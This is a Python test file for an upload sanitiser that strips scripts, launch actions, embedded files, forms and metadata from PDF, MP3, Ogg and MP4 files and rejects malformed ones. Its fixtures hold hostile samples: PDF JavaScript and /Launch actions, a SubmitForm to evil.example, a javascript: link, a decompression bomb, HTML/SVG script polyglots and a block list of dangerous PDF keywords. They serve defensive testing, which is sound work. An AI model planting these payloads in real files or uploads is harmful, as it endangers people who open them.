"""What is left of an uploaded file: what it shows or says, and nothing that does anything or tells of anybody."""

import io
import zlib

import pytest
from pypdf import PdfReader, PdfWriter

from models.errors import DomainError
from models.media_types import TAKEN_OUT, MediaType
from server.cleaning import apart
from server.cleaning.clean import clean
from server.cleaning.kinds import PdfTooMuch
from server.cleaning.ogg import checksum
from tests.factories.files import (
    OPUS,
    SHOWN,
    WORDS,
    id3,
    make_mp3,
    make_mp4,
    make_ogg,
    make_pdf,
    ogg_page,
    pdf_with_hidden,
    stream,
    written,
)
from tests.factories.photos import make_picture

JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LAUNCH = b"<< /S /Launch /F (calc.exe) >>"
FILE = b"<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>"
EMBEDDED = stream(b"MZ a.exe", b"/Type /EmbeddedFile")
# None of these is ever in what is handed out: streams are not packed here, so that a look at the bytes tells.
NEVER = (
    *(b"/JavaScript", b"/JS", b"app.alert", b"/Launch", b"calc.exe", b"/OpenAction", b"/AA", b"/EmbeddedFile", b"a.exe"),
    *(
        b"/SubmitForm",
        b"/ImportData",
        b"/GoToR",
        b"/AcroForm",
        b"/XFA",
        b"/RichMedia",
        b"/Widget",
        b"<script",
        b"javascript:",
    ),
    *(b"/Metadata", b"Secret", b"/ObjStm", b"/Filespec"),
)


def link(action: bytes) -> bytes:
    return b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %s >>]" % action


FIELD = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 9 9] /AP << /N 7 0 R >> /AA << /K %s >> >>" % JS
LOOKS = stream(b"0 0 9 9 re f", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
ACTIVE = {
    "script when opened": (make_pdf(JS, catalogue=b"/OpenAction 6 0 R"), {"script"}),
    "script by a name": (make_pdf(JS, names=b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>"), {"script"}),
    "script of a page": (make_pdf(JS, page=b"/AA << /O 6 0 R >>"), {"script", "action"}),
    "script of a link": (make_pdf(page=link(JS)), {"script"}),
    "script after a link": (
        make_pdf(page=link(b"<< /S /URI /URI (https://example.org) /Next %s >>" % JS)),
        {"script"},
    ),
    "script spelt otherwise": (make_pdf(page=link(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")), {"script"}),
    "script in a stream": (make_pdf(stream(b"app.alert(1)"), page=link(b"<< /S /JavaScript /JS 6 0 R >>")), {"script"}),
    "script hidden in a stream of objects": (pdf_with_hidden((7, JS), catalogue=b"/OpenAction 7 0 R"), {"script"}),
    "script that nothing leads to": (pdf_with_hidden((7, JS)), {"script"}),
    "script passed off as a font": (
        make_pdf(JS, page=b"/AA 7 0 R", shown=stream(SHOWN)).replace(b"/F1 5 0 R", b"/F1 5 0 R /AA 6 0 R"),
        {"script", "action"},
    ),
    "a program to start": (make_pdf(LAUNCH, catalogue=b"/OpenAction 6 0 R", page=link(b"6 0 R")), {"action"}),
    "another file to open": (make_pdf(page=link(b"<< /S /GoToR /F (b.pdf) /D [0 /Fit] >>")), {"action"}),
    "a film": (make_pdf(page=b"/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << >> >>]"), {"media"}),
    "a hidden file": (
        make_pdf(FILE, EMBEDDED, names=b"/Names << /EmbeddedFiles << /Names [(a) 6 0 R] >> >>"),
        {"attachment"},
    ),
    "a file pinned on": (
        make_pdf(FILE, EMBEDDED, page=b"/Annots [<< /Subtype /FileAttachment /Rect [0 0 9 9] /FS 6 0 R >>]"),
        {"attachment"},
    ),
    "a form": (
        make_pdf(FIELD, LOOKS, catalogue=b"/AcroForm << /Fields [6 0 R] /XFA (x) >>", page=b"/Annots [6 0 R]"),
        {"script", "action", "form"},
    ),
    "a form to send": (make_pdf(page=link(b"<< /S /SubmitForm /F (https://evil.example) >>")), {"action"}),
    "a link that runs": (make_pdf(page=link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>")), {"link"}),
    "who made it": (
        make_pdf(b"<< /Title (Rest) /Author (Secret Name) >>", trailer=b"/Info 6 0 R", catalogue=b"/Metadata 4 0 R"),
        {"details"},
    ),
    "a note on a page": (
        make_pdf(page=b"/Annots [<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (Secret) >>]"),
        {"comment"},
    ),
    "a page behind a file of another kind": (make_pdf().replace(b"%PDF-1.7\n", b"%PDF-1.7\n<script>x</script>\n"), set()),
}


def text_of(data):
    return PdfReader(io.BytesIO(data)).pages[0].extract_text()


@pytest.mark.parametrize("name", ACTIVE)
def test_nothing_that_does_anything_is_left_in_a_pdf_and_what_it_shows_is(name):
    data, kinds = ACTIVE[name]
    made = clean(data)
    assert [word for word in NEVER if word in made.data] == []
    assert text_of(made.data) == WORDS
    assert {each.kind for each in made.removed} == kinds
    assert kinds <= set(TAKEN_OUT)
    # What was cleaned once is clean: taken over again it is the same file.
    assert (clean(made.data).data, clean(made.data).removed) == (made.data, ())


def test_links_that_may_be_followed_bookmarks_and_the_way_it_is_read_aloud_stay():
    marks = b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>"
    mark = b"<< /Title (Rest) /Parent 6 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>"
    tags = b"<< /Type /StructTreeRoot /K << /S /P /Pg 3 0 R /A << /O /Layout /Placement /Block >> >> >>"
    field = b"<< /Subtype /Widget /Rect [0 0 9 9] /FT /Btn /AS /Yes /AP << /N << /Yes 10 0 R /Off 11 0 R >> >> >>"
    data = make_pdf(
        *(marks, mark, tags, field, LOOKS, LOOKS),
        catalogue=b"/Outlines 6 0 R /StructTreeRoot 8 0 R /MarkInfo << /Marked true >> /Lang (en)",
        page=b"/Annots [9 0 R << /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org) >> >>"
        b" << /Subtype /Link /Rect [0 0 9 9] /Dest [3 0 R /Fit] >>]",
    )
    made = clean(data)
    assert [each.kind for each in made.removed] == ["form"]
    reader = PdfReader(io.BytesIO(made.data))
    assert [mark.title for mark in reader.outline] == ["Rest"]
    box, first, second = (each.get_object() for each in reader.pages[0]["/Annots"])
    assert (box["/Subtype"], box["/AP"]["/N"].get_data()) == ("/Stamp", b"0 0 9 9 re f")
    assert first["/A"]["/URI"] == "https://example.org"
    assert second["/Dest"][0].get_object() == reader.pages[0].indirect_reference.get_object()
    root = reader.root_object
    assert (root["/Lang"], root["/StructTreeRoot"]["/K"]["/A"]["/Placement"]) == ("en", "/Block")


def test_photographs_in_a_pdf_lose_what_the_camera_wrote():
    photo = make_picture((60, 40), comment=b"Secret Street")
    shown = (
        b"/Type /XObject /Subtype /Image /Width 60 /Height 40 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode"
    )
    data = make_pdf(stream(photo, shown)).replace(b"/F1 5 0 R >>", b"/F1 5 0 R >> /XObject << /I 6 0 R >>")
    made = clean(data)
    assert b"Secret Street" not in made.data
    assert [each.kind for each in made.removed] == ["details"]
    (image,) = PdfReader(io.BytesIO(made.data)).pages[0].images
    assert image.image.size == (60, 40)


def locked():
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf())))
    writer.encrypt("secret", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def bomb():
    return make_pdf(shown=stream(zlib.compress(bytes(130_000_000), 1), b"/Filter /FlateDecode"))


def many_pages(count=501):
    kids = b" ".join(b"%d 0 R" % number for number in range(3, 3 + count))
    pages = b"<< /Type /Pages /Kids [%s] /Count %d /MediaBox [0 0 9 9] >>" % (kids, count)
    return written([b"<< /Type /Catalog /Pages 2 0 R >>", pages, *[b"<< /Type /Page /Parent 2 0 R >>"] * count])


def in_circles():
    return written([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"])


REFUSED = {
    "locked": (locked, "pdf_locked"),
    "cut off": (lambda: make_pdf()[:-60], "pdf_unreadable"),
    "no page": (
        lambda: written([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
        "pdf_unreadable",
    ),
    "what a page shows is lost": (lambda: make_pdf().replace(b"/Contents 4 0 R", b"/Contents 9 0 R"), "pdf_unreadable"),
    "only a head": (lambda: b"%PDF-1.7\n%%EOF", "pdf_unreadable"),
    "a bomb": (bomb, "pdf_too_much"),
    "too many pages": (many_pages, "pdf_too_much"),
    "a tree in circles": (in_circles, "pdf_"),
    "boxes in boxes": (lambda: make_pdf(b"[" * 50_000 + b"]" * 50_000, page=b"/Group 6 0 R"), "pdf_"),
    "a picture without end": (
        lambda: make_pdf(stream(b"x", b"/Subtype /Image /Width 99999 /Height 99999"), page=b"/Group << /I 6 0 R >>"),
        "pdf_too_much",
    ),
    "a page of the web": (lambda: b"<html><script>alert(1)</script>" + make_pdf(), "file_kind_unknown"),
    "a drawing": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "file_kind_unknown"),
    "nothing": (lambda: b"", "file_kind_unknown"),
    "a page of the web behind a tag": (lambda: id3(b"x") + b"<html><script>alert(1)</script>" * 99, "recording_unreadable"),
    "a page of the web as sound": (lambda: b"\xff\xfb\x90\x00<html><script>alert(1)</script>" * 9, "recording_unreadable"),
    "sound and a page of the web": (lambda: make_mp3(behind=b"<html>" * 2_000), "recording_unreadable"),
    "a film": (lambda: make_mp4(b"soun", b"vide"), "recording_not_only_sound"),
    "a box without end": (lambda: make_mp4()[:60], "recording_unreadable"),
    "two recordings in one": (lambda: make_ogg() + make_ogg(), "recording_not_only_sound"),
    "a film in Ogg": (lambda: ogg_page(0, [b"\x80theora"], flags=2), "recording_not_only_sound"),
    "sound cut off": (lambda: make_ogg()[:-3], "recording_unreadable"),
    "sound that was altered": (lambda: make_ogg()[:-3] + b"abc", "recording_unreadable"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_made_safe_is_refused_with_the_reason(name):
    make, code = REFUSED[name]
    with pytest.raises(DomainError) as caught:
        clean(make())
    assert caught.value.code.startswith(code)


def test_an_mp3_is_its_sound_and_nothing_else():
    sound = make_mp3(40)
    made = clean(id3(b"<script>Secret Street</script>") + sound + b"TAG" + b"Secret Street".ljust(125))
    assert (made.media_type, made.data, made.seconds) == (MediaType.MP3, sound, 1)
    assert [each.kind for each in made.removed] == ["details"]
    assert clean(make_mp3(20) + b"<p>" + make_mp3(20)).data == sound
    assert clean(sound).removed == []


@pytest.mark.parametrize("note", [b"LOCATION=Secret Street", b"COVER=" + b"Secret" * 20_000])
def test_an_ogg_file_keeps_its_sound_and_none_of_its_comments(note):
    if len(note) > 60_000:  # a picture of the cover: over several pages
        tags = b"OpusTags" + bytes(4) + (1).to_bytes(4, "little") + len(note).to_bytes(4, "little") + note
        parts = [tags[at : at + 255 * 200] for at in range(0, len(tags), 255 * 200)]
        laces = [ogg_page(0, [OPUS], flags=2)]
        for number, part in enumerate(parts, start=1):
            page = ogg_page(number, [part], flags=1 if number > 1 else 0)
            laces.append(page if number == len(parts) else _without_end(page))
        data = b"".join(laces) + make_ogg()[len(make_ogg()) - len(_sound()) :]
    else:
        data = make_ogg(note)
    made = clean(data)
    assert b"Secret" not in made.data
    assert (made.media_type, made.seconds) == (MediaType.OGG, 1)
    assert [each.kind for each in made.removed] == ["details"]
    assert made.data == ogg_page(0, [OPUS], flags=2) + ogg_page(1, [b"OpusTags" + bytes(8)]) + _sound()
    assert clean(made.data).data == made.data


def _sound():
    return ogg_page(2, [b"\xf8\xff\xfe"] * 50, flags=4, position=50 * 960 + 312)


def _without_end(page):
    """The same page, whose packet goes on in the next: without the lace that ends it."""
    laces = page[26] - 1
    head, rest = page[:22], bytes([laces]) + page[27 : 27 + laces] + page[28 + laces :]
    return head + checksum(head + bytes(4) + rest).to_bytes(4, "little") + rest


def test_an_mp4_says_nothing_of_who_made_it_and_nothing_in_it_moves():
    came = make_mp4()
    made = clean(came)
    assert (made.media_type, made.seconds, len(made.data)) == (MediaType.MP4, 3, len(came))
    assert b"Secret" in came
    assert [word for word in (b"Secret", b"-33.9", b"\xde\xad\xbe\xef", b"ilst", b"uuid") if word in made.data] == []
    assert made.data.index(b"mdat") == came.index(b"mdat")
    assert clean(made.data).data == made.data


def test_a_process_of_its_own_looks_through_a_file_and_is_ended_when_it_takes_too_long(tmp_path, monkeypatch):
    came = tmp_path / "came"
    came.write_bytes(ACTIVE["script when opened"][0])
    with apart.cleaned(came, MediaType.PDF) as made:
        assert (made.path.read_bytes(), made.facts.pages) == (clean(came.read_bytes()).data, 1)
        assert made.facts.removed == [{"kind": "script", "text": ""}]
        assert made.facts.size == made.path.stat().st_size
    assert not made.path.exists()
    came.write_bytes(b"<html>")
    with pytest.raises(DomainError, match="file_kind_unknown"), apart.cleaned(came, MediaType.PDF):
        pass
    monkeypatch.setattr(apart, "PATIENCE_S", 0.0)
    with pytest.raises(PdfTooMuch), apart.cleaned(came, MediaType.PDF):
        pass
